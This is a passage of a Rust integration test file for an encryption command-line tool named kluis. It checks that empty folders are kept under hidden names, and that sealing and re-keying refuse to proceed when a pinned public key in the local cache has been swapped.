    assert!(alice.path("back/src/also-empty").is_dir());
    assert_eq!(tree(&alice.path("back")), ["src/a.txt"]);
}

/// Defect 8: with --hide-names the sealed folder is flat, and an empty folder is kept as a
/// document of its own (its stored name ends in `/`, its content is empty), so opening
/// restores it; sealing again with --force replaces those documents, as it does files.
#[test]
fn empty_folders_are_kept_with_hidden_names() {
    let server = Server::start();
    let alice = User::logged_in(&server, &server.alice);
    write(&alice.path("src/a.txt"), b"a");
    std::fs::create_dir_all(alice.path("src/empty/deeper")).unwrap();
    std::fs::create_dir_all(alice.path("src/also-empty")).unwrap();
    let seal = [
        "seal",
        "--label",
        "hr",
        "--hide-names",
        "--pad",
        "-o",
        "cloud",
        "src",
    ];
    let run = alice.run(&seal).ok();
    assert!(!run.stderr.contains("warning"), "{}", run.stderr);
    let sealed = tree(&alice.path("cloud"));
    assert_eq!(sealed.len(), 3, "a file and two empty folders: {sealed:?}");
    for f in &sealed {
        assert!(!f.contains("empty") && !f.contains('/'), "{f}");
    }
    let mut forced = seal.to_vec();
    forced.push("--force");
    alice.run(&forced).ok();
    assert_eq!(tree(&alice.path("cloud")), sealed, "the same names again");

    let run = alice.run(&["open", "-o", "back", "cloud"]).ok();
    assert!(
        alice.path("back/src/empty/deeper").is_dir(),
        "{}",
        run.stderr
    );
    assert!(alice.path("back/src/also-empty").is_dir());
    assert_eq!(tree(&alice.path("back")), ["src/a.txt"]);
    // Opened again into the same place: the folders are there, nothing fails.
    alice
        .run(&["open", "-o", "back", "cloud"])
        .fails(8, "already exists");
    assert!(alice.path("back/src/also-empty").is_dir());
}

/// The cache file of label `name` in `user`'s label cache.
fn cached_label(user: &User, name: &str) -> std::path::PathBuf {
    let servers: Vec<_> = std::fs::read_dir(user.cache_dir().join("servers"))
        .unwrap()
        .map(|d| d.unwrap().path())
        .collect();
    assert_eq!(servers.len(), 1, "{servers:?}");
    servers[0].join("labels").join(format!("{name}.json"))
}

/// Section 3 (pinning in kluis-client): `kluis seal` and `kluis rekey` both check the label
/// record against the keys pinned in the cache: a known key version whose key changed is
/// refused by both, nothing is written, and each says what it did not do (a re-keying does
/// not say "nothing was sealed").
#[test]
fn seal_and_rekey_refuse_a_changed_pinned_key_and_write_nothing() {
    let server = Server::start();
    let alice = User::logged_in(&server, &server.alice);
    write(&alice.path("a.txt"), b"a");
    alice.run(&["seal", "--label", "hr", "a.txt"]).ok();
    server.admin(&["label", "rotate", "hr"]);
    let before = std::fs::read(alice.path("a.txt.kluis")).unwrap();

    // Someone swapped version 1's key, as far as this cache knows.
    let path = cached_label(&alice, "hr");
    let mut v: serde_json::Value = serde_json::from_slice(&std::fs::read(&path).unwrap()).unwrap();
    let other = kluis_core::Identity::generate()
        .unwrap()
        .public_key()
        .to_string();
    v["known_keys"]["1"] = other.into();
    std::fs::write(&path, serde_json::to_vec(&v).unwrap()).unwrap();

    write(&alice.path("b.txt"), b"b");
    let run = alice.run(&["seal", "--label", "hr", "b.txt"]);
    assert_ne!(run.code, 0);
    assert!(
        run.stderr.contains("different public key"),
        "{}",
        run.stderr
    );
    assert!(run.stderr.contains("nothing was sealed"), "{}", run.stderr);
    assert!(!alice.path("b.txt.kluis").exists());

    let run = alice.run(&["rekey", "a.txt.kluis"]);
    assert_ne!(run.code, 0);
    assert!(
        run.stderr.contains("different public key"),
        "{}",
        run.stderr
    );
    assert!(run.stderr.contains("was re-keyed"), "{}", run.stderr);
    assert!(!run.stderr.contains("nothing was sealed"), "{}", run.stderr);
    assert!(
        run.stderr.contains("re-keyed 0 documents"),
        "{}",
        run.stderr
    );
    assert_eq!(std::fs::read(alice.path("a.txt.kluis")).unwrap(), before);
    assert_eq!(tree(&alice.work()), ["a.txt", "a.txt.kluis", "b.txt"]);
}
